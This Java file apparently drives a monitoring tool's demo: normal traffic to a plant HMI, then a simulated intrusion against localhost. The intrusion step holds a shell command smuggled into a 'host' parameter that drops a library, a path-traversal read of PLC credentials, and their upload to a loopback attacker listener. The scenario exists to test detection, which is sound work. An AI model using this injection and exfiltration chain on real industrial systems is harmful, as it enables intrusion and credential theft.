package dev.osapimonitor.examples.scenario;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

/**
 * Drives the plant HMI through a normal shift and then an intrusion.
 *
 * <ol>
 *   <li>Benign: operators read tag history, reports are written, the HMI polls the PLC, the maintenance job backs up
 *       the history. Under the default policy none of this is exported.
 *   <li>Incident: one request to {@code /diagnostics} injects a shell command (which drops a native library into the
 *       plugins directory), reads the PLC credentials through path traversal, uploads them to an attacker-controlled
 *       listener and loads the dropped library. Under the default policy this is one trace, rooted at that request,
 *       with the look-back of what the request did before the shell started.
 * </ol>
 *
 * <p>Usage: {@code java -jar scenario.jar [--url http://127.0.0.1:8080] [--phase all|benign|incident]}
 */
public final class Scenario {

  private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  private final String base;

  Scenario(String base) {
    this.base = base;
  }

  public static void main(String[] args) throws Exception {
    String url = "http://127.0.0.1:8080";
    String phase = "all";
    for (int i = 0; i + 1 < args.length; i += 2) {
      if (args[i].equals("--url")) {
        url = args[i + 1];
      } else if (args[i].equals("--phase")) {
        phase = args[i + 1];
      }
    }
    Scenario scenario = new Scenario(url);
    scenario.waitForHealth();
    if (!phase.equals("incident")) {
      scenario.benign();
    }
    if (!phase.equals("benign")) {
      scenario.incident();
    }
  }

  void waitForHealth() throws InterruptedException {
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
    while (System.nanoTime() < deadline) {
      try {
        if (get("/health").statusCode() == 200) {
          return;
        }
      } catch (IOException e) {
        // not up yet
      }
      Thread.sleep(200);
    }
    throw new IllegalStateException("the HMI at " + base + " did not come up");
  }

  void benign() throws IOException, InterruptedException {
    System.out.println("== benign shift");
    String[] tags = {"T1", "T2", "T3", "PRESSURE_1", "FLOW_2"};
    for (int i = 0; i < 10; i++) {
      step("GET tag history " + tags[i % tags.length], get("/tags/history?tag=" + tags[i % tags.length]));
      step("GET PLC register 4000" + (i % 9 + 1), get("/plc/poll?register=4000" + (i % 9 + 1)));
      if (i % 3 == 0) {
        step("POST shift report " + i, post("/reports?name=shift-" + i));
      }
    }
    step("POST daily report", post("/reports?name=daily"));
    step("POST maintenance backup", post("/maintenance/backup"));
  }

  void incident() throws Exception {
    System.out.println("== incident: command injection through /diagnostics");
    try (ServerSocket attacker = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      CompletableFuture<Integer> exfiltrated = CompletableFuture.supplyAsync(() -> receive(attacker));
      // The injected command copies a shared library into plugins/ (the HMI runs it in its data directory).
      String injected =
          "127.0.0.1; for f in /lib/x86_64-linux-gnu/libz.so.1 /usr/lib/x86_64-linux-gnu/libz.so.1 /lib64/libz.so.1"
              + " /usr/lib64/libz.so.1 /lib/libz.so.1 /usr/lib/libz.so.1; do [ -f $f ] && cp $f plugins/libcodec.so"
              + " && break; done";
      String query =
          "host=" + enc(injected)
              + "&include=" + enc("../secrets/plc-credentials.properties")
              + "&upload=" + enc("127.0.0.1:" + attacker.getLocalPort())
              + "&codec=codec";
      step("GET /diagnostics (malicious)", get("/diagnostics?" + query));
      int bytes = exfiltrated.get(30, TimeUnit.SECONDS);
      System.out.println("   attacker listener received " + bytes + " bytes of the support bundle");
    }
  }

  private static Integer receive(ServerSocket attacker) {
    try (Socket s = attacker.accept(); InputStream in = s.getInputStream()) {
      return in.readAllBytes().length;
    } catch (IOException e) {
      return -1;
    }
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }

  private HttpResponse<String> get(String path) throws IOException, InterruptedException {
    return http.send(HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30)).build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private HttpResponse<String> post(String path) throws IOException, InterruptedException {
    return http.send(
        HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30))
            .POST(HttpRequest.BodyPublishers.noBody()).build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private static void step(String what, HttpResponse<String> response) {
    String body = response.body().strip();
    System.out.println("   " + what + " -> " + response.statusCode()
        + (body.isEmpty() ? "" : ": " + (body.length() > 80 ? body.substring(0, 77) + "..." : body.replace('\n', ' '))));
  }
}
